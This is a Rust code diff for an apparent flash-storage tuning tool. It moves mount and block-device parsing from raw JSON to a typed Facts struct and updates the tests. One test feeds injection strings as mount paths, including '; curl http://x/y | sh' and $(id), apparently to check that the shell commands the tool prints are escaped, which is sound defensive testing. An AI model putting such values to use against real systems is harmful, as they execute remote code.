@@ -8,10 +8,9 @@ use flashscope_predict::{
     Advice, Change, ErrorBar, Off, Predictor, Seen, Silent, TRIED_KIB, Workload, advise, recorded_knob, silent,
 };
 use flashscope_report::terminal::text;
-use flashscope_trace::{Device, Trace};
+use flashscope_trace::{Device, Facts, Trace};
 use schemars::JsonSchema;
 use serde::Serialize;
-use serde_json::Value;
 
 use crate::args::AdviseArgs;
 use crate::failure::Failure;
@@ -352,7 +351,7 @@ struct Storage {
 }
 
 impl Storage {
-    fn of(facts: &Value, devices: impl Iterator<Item = u32>) -> Storage {
+    fn of(facts: &Facts, devices: impl Iterator<Item = u32>) -> Storage {
         let mut storage = Storage {
             knobs: Vec::new(),
             shared: false,
@@ -362,11 +361,10 @@ impl Storage {
             odd: Vec::new(),
         };
         let devices: std::collections::BTreeSet<String> = devices.map(|device| Device(device).to_string()).collect();
-        let bdis: Vec<&str> =
-            facts["bdi"].as_array().into_iter().flatten().filter_map(|bdi| bdi["name"].as_str()).collect();
-        for mount in facts["mounts"].as_array().into_iter().flatten() {
-            let Some(device) = mount["device"].as_str().filter(|&device| devices.contains(device)) else { continue };
-            let kind = mount["type"].as_str().unwrap_or_default();
+        let bdis: Vec<&str> = facts.bdi.iter().filter_map(|bdi| bdi.name.as_deref()).collect();
+        for mount in &facts.mounts {
+            let Some(device) = mount.device.as_deref().filter(|&device| devices.contains(device)) else { continue };
+            let kind = mount.kind.as_deref().unwrap_or_default();
             storage.synchronous |= matches!(kind, "jffs2" | "ubifs" | "yaffs2");
             match kind {
                 "jffs2" => {
@@ -376,8 +374,8 @@ impl Storage {
                         .extend(bdis.iter().find(|name| name.starts_with("mtd-")).map(|&name| name.to_owned()));
                 }
                 "ubifs" => {
-                    let text = |name: &str| mount[name].as_str().unwrap_or_default().to_owned();
-                    storage.ubifs.push((text("source"), text("target")));
+                    let text = |said: &Option<String>| said.clone().unwrap_or_default();
+                    storage.ubifs.push((text(&mount.source), text(&mount.target)));
                     storage.knobs.extend(bdis.iter().filter(|name| name.starts_with("ubifs_")).map(|&n| n.to_owned()))
                 }
                 _ => storage.knobs.push(device.to_owned()),
@@ -524,7 +522,7 @@ mod tests {
     use flashscope_cachesim::{Access, FileId, Kernel, NodeRuns, OpenId};
     use flashscope_predict::Storage as Below;
     use flashscope_predict::{Call, Step, Workload};
-    use serde_json::json;
+    use serde_json::{Value, json};
 
     const FILE: FileId = FileId { device: Some(14), inode: 5 };
 
@@ -562,7 +560,7 @@ mod tests {
         workload.nodes.flash_pages = Some(2.0);
         let predictor = Predictor::new(&workload, Below::new(Kernel::V6_1));
         let advice = &advise(&predictor, 0, Off::default())[0];
-        let storage = Storage::of(&facts, [14].into_iter());
+        let storage = Storage::of(&Facts::of(&facts), [14].into_iter());
         let lines = lines(advice, &storage);
         let words = |line: &str| lines.iter().any(|one| one.ends_with(line));
         assert!(words(" mount -o remount,bulk_read /") && words("rootflags=bulk_read"), "{lines:?}");
@@ -588,7 +586,7 @@ mod tests {
         };
         let of = |change: Change, facts: &Value| {
             let advice = Advice { change, ..some_advice() };
-            lines(&advice, &Storage::of(facts, [14].into_iter()))
+            lines(&advice, &Storage::of(&Facts::of(facts), [14].into_iter()))
         };
         let attack = "; curl http://x/y | sh";
         for target in [format!("/mnt/{attack}"), "/mnt/`id`".into(), "/mnt/$(id)".into(), "/mnt/a b' ; x".into()] {
@@ -619,7 +617,7 @@ mod tests {
         let workload = whole_file();
         let below = Below { squashfs: [(14, 8 << 10)].into(), ..Below::new(Kernel::V6_1) };
         let advice = advise(&Predictor::new(&workload, below), 0, Off::default());
-        let storage = Storage::of(&Value::Null, [14].into_iter());
+        let storage = Storage::of(&Facts::default(), [14].into_iter());
         let one = advice.last().expect("larger blocks");
         assert!(lines(one, &storage)[0].starts_with("mksquashfs ROOT IMAGE -b 131072"), "{advice:?}");
         assert!(gain(one).starts_with("7 blocks") && gain(one).contains("instead of 100"), "{}", gain(one));
